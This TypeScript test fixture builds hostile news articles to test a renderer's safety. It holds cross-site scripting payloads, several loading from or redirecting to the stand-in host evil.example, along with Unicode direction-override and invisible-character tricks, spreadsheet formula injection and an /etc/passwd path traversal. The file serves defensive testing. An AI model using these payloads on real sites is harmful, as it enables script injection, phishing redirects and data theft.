/**
 * Sixty articles made to do harm: markup that would run, characters that turn or hide text, sizes nobody expects, names in every script.
 * Whatever runs says so by setting `hostile` on the window, opening a dialog or asking for an address of another site.
 */
export interface Hostile {
  readonly id: string;
  readonly text: string;
  readonly title?: string;
  readonly outlet?: string;
  readonly url?: string;
  readonly published?: string;
}

const RUN = 'window.hostile=1;alert(1)';
/** Markup that runs where it is taken for markup, in text, in an attribute, in a comment, in a title. */
const MARKUP: readonly string[] = [
  `<script>${RUN}</script>`,
  `</p></main></body></html><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `' onmouseover='${RUN}' x='`,
  `" autofocus onfocus="${RUN}" x="`,
  `<img src=x onerror="${RUN}">`,
  `<img src="https://evil.example/beacon.gif">`,
  `<svg/onload=${RUN}>`,
  `<svg><script xlink:href="https://evil.example/x.js"></script></svg>`,
  `<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>`,
  `<a href="javascript:${RUN}">read on</a>`,
  `<form action="https://evil.example/"><input name=q><button>Confirm</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<style>@import 'https://evil.example/x.css';body{display:none}</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `</title><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `</textarea></pre></style><script>${RUN}</script>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template><details open ontoggle=${RUN}>`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;script&#62;${RUN} &notit;`,
  `%3Cscript%3E${RUN}%3C/script%3E {{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt><\u0000script>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
];

const MARKED: readonly Hostile[] = MARKUP.map((bait, i) => ({
  id: `markup-${i} ${bait.replaceAll('\u0000', '')}`,
  title: `Bridge ${bait}`,
  outlet: `The ${bait} Courier`,
  url: i % 3 === 0 ? `javascript:${RUN}//` : `https://news.example/${encodeURIComponent(bait)}?q=${bait}`,
  published: '2031-03-14',
  text: `“The bridge ${bait} is safe, all ${i} spans of it,” Ada Voss, the minister of ${bait}, said on Tuesday.\n\n${bait}\n\nShe told ${bait} Tom Reed “nobody ${bait} asked us”.\n`,
}));

/** Around a statement: what turns the reading direction, hides, piles up or ends a line where nobody sees it. */
const SIGNS: readonly (readonly [name: string, before: string, inside: string])[] = [
  ['override', '\u202e', 'eht \u202d'],
  ['isolates never closed', '\u2066\u2067\u2068'.repeat(50), '\u2068'],
  ['embeddings', '\u202a\u202b'.repeat(70), '\u202c'],
  ['nothing to see', '\u200b\u200c\u200d\u2060\ufeff', '\u00ad'],
  ['tags', '\u{e0001}\u{e0041}\u{e007f}', '\u{e0020}'],
  ['controls', '\u0001\u0007\u0008\u001b[2J\u001b]0;x\u0007\u007f', '\u0085\u009b31m'],
  ['line ends', 'a\rb\u2028c\u2029d\u000be\u000cf', '\u2028'],
  ['lone halves', '\ud800 \udc00 \udbff', '\ud83d'],
  ['piled up', `Z${'\u0300\u0336\u0489'.repeat(400)}`, '\u0489'.repeat(100)],
  ['variation', 'x\ufe0f\u{e0100}'.repeat(100), '\ufe0e'],
  ['no characters', '\ufffe\uffff\ufdd0', '\ufffd'],
  ['marks alone', '\u061c\u200e\u200f', '\u200f'],
];

const SIGNED: readonly Hostile[] = SIGNS.map(([name, before, inside]) => ({
  id: `signs ${name}`,
  title: `${before} Bridge`,
  outlet: `Courier ${inside}`,
  published: '2031-03-15',
  text: `${before} The ${name} day.\n\n“The bridge${inside} is safe on the ${name} day,” Ada${inside} Voss said ${before} on Tuesday.\n`,
}));

const NAMES: readonly string[] = [
  'עדה ווס',
  'آدا فوس',
  'Ada ווס Voss',
  'Ёлка Вос',
  '艾達 沃斯',
  'เอดา วอสส์',
  'Ada 👩🏽‍⚖️🏳️‍🌈 Voss',
  '__proto__',
  'constructor',
  "O'Voss\u2019\u2018\"'`",
];

const NAMED: readonly Hostile[] = NAMES.map((name, i) => ({
  id: name,
  title: `${name}: ${name}`,
  outlet: name,
  published: '2031-03-16',
  text: `${name} said the bridge of ${name} was safe on day ${i}.\n\n“Nobody asked ${name} on day ${i},” said ${name}, the minister of ${name}.\n`,
}));

const SIZES: readonly Hostile[] = [
  { id: 'a word of a megabyte', text: `Ada Voss said ${'x'.repeat(1_000_000)} was safe.\n` },
  { id: 'no word at all', text: '… — …\n.\n' },
  { id: 'a megabyte of blanks', text: `Ada Voss said${' '.repeat(1_000_000)}the bridge was safe.\n` },
  {
    id: 'a name without end',
    text: `${'Ada '.repeat(3000)}Voss said the bridge was safe.\n`,
    title: 'T'.repeat(200_000),
  },
  {
    id: 'i'.repeat(20_000),
    text: 'Ada Voss said the bridge with the long name was safe.\n',
    outlet: 'O'.repeat(100_000),
  },
  { id: 'rows', text: 'Ada Voss said the bridge was safe.\n'.repeat(30_000) },
  { id: 'marks', text: `${'“'.repeat(4000)}safe,” Ada Voss said${'”'.repeat(4000)}.\n` },
  { id: 'brackets', text: `${'('.repeat(5000)}Ada Voss said the bridge was safe${')'.repeat(5000)}.\n` },
  {
    id: 'turns',
    text: Array.from({ length: 600 }, (_, i) => `“Span ${i} is safe,” said Ada Voss.`).join('\n\n'),
  },
  {
    id: '=HYPERLINK("https://evil.example";"x")',
    title: '=1+1',
    outlet: '@SUM(A1)',
    text: '“=cmd|x,” Ada Voss said of it, “+1 -1 =1 is safe”.\n',
  },
  {
    id: '../../../../etc/passwd',
    url: 'file:///etc/passwd',
    text: 'Ada Voss said the path of the bridge was safe.\n',
    published: '9999-99-99',
  },
];

export const HOSTILE: readonly Hostile[] = [...MARKED, ...SIGNED, ...NAMED, ...SIZES];
